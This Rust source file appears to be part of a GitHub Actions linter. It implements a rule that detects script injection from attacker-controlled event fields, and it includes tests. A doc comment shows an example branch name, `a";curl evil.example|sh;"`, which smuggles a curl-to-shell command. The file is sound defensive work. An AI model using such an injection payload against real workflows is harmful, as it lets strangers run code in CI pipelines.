//! Texts of strangers that become part of a script.

use crate::{
    catalog::reference,
    expr::{Expr, Kind},
    lint::{Findings, Rule, Severity, keyed::Keyed},
    text::msg,
    workflow::{Node, Workflow, input, is_action},
};

/// GitHub puts the value into the script before the shell reads it, so a branch called
/// `a";curl evil.example|sh;"` is run.
pub(super) static RULE: Rule = Rule {
    id: "script-injection",
    severity: Severity::Error,
    title: &msg::WRITTEN_SCRIPT_INJECTION_TITLE,
    source: reference("https://docs.github.com/en/actions/concepts/security/script-injections"),
    check,
};

/// What anybody can write. Source: GitHub docs, "Script injections", and securitylab.github.com,
/// "Untrusted input".
const UNTRUSTED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.commits.message",
    "github.event.commits.author.email",
    "github.event.commits.author.name",
    "github.event.pages.page_name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.display_title",
];

fn check(_: &Workflow, findings: &mut Findings) {
    for keyed in &findings.texts().all {
        if keyed.step.is_some_and(|it| is_script(it, keyed.node)) {
            judge(keyed, findings);
        }
    }
}

/// Actions and the input that they run as a script. Source: their `action.yml`; zizmor 1.32, audit
/// template-injection, lists more.
const SCRIPTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("nick-fields/retry", "command"),
];

/// Whether the runner hands a value of a step to a shell or to Node.
pub(super) fn is_script(step: &Node, node: &Node) -> bool {
    let is = |it: Option<&Node>| it.is_some_and(|it| std::ptr::eq(it, node));
    is(step.get("run"))
        || SCRIPTS.iter().any(|(action, name)| is_action(step, action) && is(input(step, name)))
}

fn judge(keyed: &Keyed<'_>, findings: &mut Findings) {
    for expr in keyed.whole() {
        let mut found = Vec::new();
        untrusted(expr, &mut found);
        for (span, name) in found {
            let span = keyed.part(&span);
            findings.span(span, keyed.node.place, msg::written_script_injection_says(name));
        }
    }
}

/// The parts of an expression that hand on what a stranger wrote. A comparison hands on yes or no.
fn untrusted(expr: &Expr, found: &mut Vec<(std::ops::Range<usize>, String)>) {
    match &expr.kind {
        Kind::Compare(..) | Kind::Not(_) => return,
        Kind::Call(name, _) if SAFE.iter().any(|it| it.eq_ignore_ascii_case(name)) => return,
        _ => {}
    }
    if let Some(path) = path(expr)
        && UNTRUSTED.contains(&path.to_ascii_lowercase().as_str())
    {
        found.push((expr.span.clone(), path));
        return;
    }
    expr.parts().into_iter().for_each(|it| untrusted(it, found));
}

/// Functions of which nothing but a truth or a hash comes out.
pub(super) const SAFE: &[&str] = &["contains", "startsWith", "endsWith", "hashFiles"];

/// The properties that lead to a value; which item of a list does not count.
pub(super) fn path(expr: &Expr) -> Option<String> {
    match &expr.kind {
        Kind::Filter(of) => path(of),
        Kind::Index(of, by) => match &by.kind {
            Kind::Literal(crate::expr::Value::Text(it)) => Some(format!("{}.{it}", path(of)?)),
            _ => path(of),
        },
        _ => expr.path(),
    }
}

#[cfg(test)]
mod tests {
    use expect_test::expect;

    use super::RULE;
    use crate::lint::rules::check_steps;

    #[test]
    fn what_strangers_write() {
        let steps = "- run: docker build -t app:${{ github.head_ref }} .
- run: |
    echo fine
    echo \"${{ github.event.pull_request.title }}\" '${{ github.event.commits[0].message }}'
- run: echo ${{ contains(github.event.comment.body, '/publish') }} ${{ github.head_ref == 'a' }}
- run: echo ${{ format('{0}', github['head_ref']) }}
- {run: 'echo \"$REF\"', env: {REF: '${{ github.head_ref }}'}}
- {uses: actions/github-script@v8, with: {script: 'f(\"${{ github.event.issue.title }}\")'}}
- {uses: actions/checkout@v7, with: {ref: '${{ github.head_ref }}'}}";
        check_steps(
            &RULE,
            steps,
            expect![[r#"
            5 error: Whoever opens a pull request, an issue or a branch writes `github.head_ref`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            8 error: Whoever opens a pull request, an issue or a branch writes `github.event.pull_request.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            8 error: Whoever opens a pull request, an issue or a branch writes `github.event.commits.message`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            10 error: Whoever opens a pull request, an issue or a branch writes `github.head_ref`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
            12 error: Whoever opens a pull request, an issue or a branch writes `github.event.issue.title`, and with it commands that run here. Put it into `env` and read it in quotes, such as `"$NAME"`.
        "#]],
        );
    }
}
